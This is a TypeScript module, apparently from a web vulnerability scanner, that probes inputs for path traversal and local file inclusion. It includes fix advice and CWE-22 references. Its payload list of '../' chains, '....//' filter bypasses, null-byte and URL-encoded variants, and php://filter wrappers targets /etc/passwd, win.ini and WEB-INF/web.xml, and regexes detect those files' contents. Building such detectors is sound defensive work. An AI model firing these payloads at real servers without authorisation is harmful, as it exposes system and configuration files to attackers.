import { isFiller } from '../../crawl/fieldValues.ts';
import type { Exchange, InputPoint } from '../../ground/exchange.ts';
import { likenessOf, similarity } from '../../ground/likeness.ts';
import { ahead } from '../ahead.ts';
import { excerpt, observationAt } from '../answers.ts';
import type { ActiveCheck, Prober } from '../check.ts';
import { echoOf } from '../echo.ts';

const telling =
  /file|path|page|doc|templ|incl|dir|folder|img|image|photo|pic|down|view|load|read|lang|locale|theme|skin|style|layout|content|cont|mod|conf|log|report|attach|name|show|open|source|src|target|url|pg|datei|seite|bild|vorlage|ordner|fichier|chemin|dossier|modele|archivo|fichero|ruta|carpeta|plantilla|bestand|cartella|percorso|arquivo|caminho|plik|soubor|^[fp]$/i;
/** A name without an ending; numbers are names of files in hardly any place. */
const isWord = /^[a-z][\w -]{0,100}$/i;
const fileLike = /^[\w./\\ -]{0,200}\.[a-z0-9]{1,5}$|[/\\]/i;

const up = '../'.repeat(10);

/** The one that finds most, for any input at all: a full path by itself, and a way up behind a folder. */
const common: readonly string[] = [`/${up}etc/passwd`];
/** What a page that includes others takes as it stands, where we made the usual value up and know nothing of it. */
const fromRoot = '/WEB-INF/web.xml';

/** What a filter that takes '../' out once makes of it is '../'. */
const upOnceFiltered = '....//';

export const pathTraversal: ActiveCheck = {
  id: 'traversal',
  kind: 'active',
  title: 'Any file on your server can be read through a page of your site',
  technicalName: 'Path traversal / local file inclusion',
  severity: 'high',
  cwe: 'CWE-22',
  minLevel: 'normal',
  advice: {
    risk: 'A stranger can fetch files that were never meant for the web: settings, passwords of the database, customers’ documents.',
    fix: 'Do not build file names from what visitors send: let them choose from a list of known names. Otherwise resolve the full path and refuse it unless it lies inside the folder meant for it.',
    references: ['OWASP WSTG-ATHZ-01', 'CWE-22'],
  },
  appliesTo: ({ place }) => place !== 'header',
  async probe(point, prober) {
    const baseline = await prober.baseline(point);
    if (fileIn(baseline.response.body) !== null) return [];
    const payloads = (await namesFile(point, baseline, prober))
      ? [...common, ...thorough(point.value, point.request.url)]
      : [...common, ...(isFiller(point.value) ? [fromRoot] : [])];
    const answers = ahead(payloads, (value) => prober.send(point, value));
    for await (const [value, answer] of answers) {
      const proof = fileIn(answer.response.body);
      if (proof === null) continue;
      // A page that shows such a file whatever it is asked for proves nothing.
      const control = await prober.send(
        point,
        value.replace(/passwd|win\.ini|web\.xml|resource=/, prober.canary()),
      );
      if (fileIn(control.response.body) !== null) return [];
      const evidence = `Sent ${value.replaceAll('\0', '%00')} as "${point.name}"; the answer shows ${proof.file}:\n${excerpt(answer.response.body, proof.index, 150)}`;
      return [observationAt(point, evidence)];
    }
    return [];
  },
};

const namesFile = async (point: InputPoint, usual: Exchange, prober: Prober): Promise<boolean> =>
  looksLikeFile(point) || isPath(point, usual, prober);

function looksLikeFile({ place, name, value }: InputPoint): boolean {
  if (place !== 'path' && telling.test(name)) return true;
  return fileLike.test(value) && place !== 'cookie';
}

/** './' in front of a path leads to the same file; in front of any other word it makes another word. */
async function isPath(point: InputPoint, usual: Exchange, prober: Prober): Promise<boolean> {
  if (!isWord.test(point.value) || point.place === 'path' || point.place === 'cookie') return false;
  const look = (exchange: Exchange, sent: string) => likenessOf(exchange, sent, point.value);
  const page = look(usual, point.value);
  const dotted = `./${point.value}`;
  const same = look(await prober.send(point, dotted), dotted);
  if (similarity(page, same) < 1) return false;
  const { exchange, word } = await echoOf(point, prober);
  return similarity(page, look(exchange, word)) < 1;
}

/**
 * The descriptor of a web application (Jakarta Servlet 6.0, §10.5), which refuses to go further up than its own
 * root: so as many folders up as the page at `url` is deep, one fewer where the first is the application's name,
 * and one more where the value is put behind a folder.
 */
function descriptors(url: string): string[] {
  const depth = new URL(url).pathname.split('/').length - 2;
  const steps = new Set([0, 1, 2, depth - 1, depth, depth + 1].filter((count) => count >= 0));
  const filtered = [depth - 1, depth].filter((count) => count > 0);
  const ways = [
    ...[...steps].map((count) => '../'.repeat(count)),
    ...filtered.flatMap((count) => ['', '/'].map((start) => start + upOnceFiltered.repeat(count))),
  ];
  return ['/', ...ways].map((way) => `${way}WEB-INF/web.xml`);
}

/** Ways around filters, for inputs that look as if they named a file; the likeliest first. */
function thorough(usual: string, url: string): string[] {
  // To satisfy filters that look at a value's ending, and those that look at its beginning.
  const ending = /(\.[a-z0-9]{1,5})$/i.exec(usual)?.[1] ?? '';
  const folder = /^(.{1,200}\/)[^/]*$/.exec(usual)?.[1] ?? '';
  const name = usual.replace(/\.[a-z0-9]{1,5}$/i, '').slice(0, 100) || 'index';
  return [
    `${up}etc/passwd`,
    '/etc/passwd',
    ...(folder === '' ? [] : [`${folder}${up}etc/passwd`]),
    `${folder}${up}etc/passwd\0${ending}`,
    ...(ending === '' ? [] : [`/etc/passwd\0${ending}`]),
    ...[...new Set(['', '/', folder])].map(
      (start) => `${start}${upOnceFiltered.repeat(10)}etc/passwd`,
    ),
    'file:///etc/passwd',
    `${up.replaceAll('/', '%2f')}etc%2fpasswd`,
    `${'%2e%2e%2f'.repeat(10)}etc%2fpasswd`,
    `${up}windows/win.ini`,
    `${'..\\'.repeat(10)}windows\\win.ini`,
    'c:\\windows\\win.ini',
    'c:/windows/win.ini',
    ...descriptors(url),
    `php://filter/convert.base64-encode/resource=${name}`,
    `php://filter/convert.base64-encode/resource=${usual.slice(0, 100) || 'index.php'}`,
  ];
}

/** Files that every machine of a kind has, and the words in them that nothing else has. */
const proofs: readonly (readonly [string, RegExp])[] = [
  // passwd(5): root's entry has user and group number 0.
  ['/etc/passwd', /root:[^:\n<]{0,100}:0:0:[^:\n]{0,100}:[^:\n]{0,100}:/],
  // Its beginning in Base64, as pictures and documents stand in pages.
  ['/etc/passwd', /cm9vdDp4OjA6MDpyb290/],
  ['win.ini', /; for 16-bit app support\s+\[fonts\]/i],
  [
    'WEB-INF/web.xml',
    /<web-app\b[^>]*>[\s\S]{0,20000}?<\/?(?:servlet|display-name|welcome-file|filter|listener|context-param)/i,
  ],
  // base64 of '<?php' at each of the places where it can stand.
  ['a script’s own source', /(?:^|[\s>"'])PD9waH[A-Za-z0-9+/]{20,}/],
];

/** The file whose content stands in the text, or null. */
export function fileIn(text: string) {
  for (const [file, pattern] of proofs) {
    const match = pattern.exec(text);
    if (match !== null) return { file, index: match.index };
    // Printed inside a page, its angle brackets are encoded.
    const encoded = file === 'WEB-INF/web.xml' && /&lt;web-app\b/.exec(text);
    if (encoded) return { file, index: encoded.index };
  }
  return null;
}
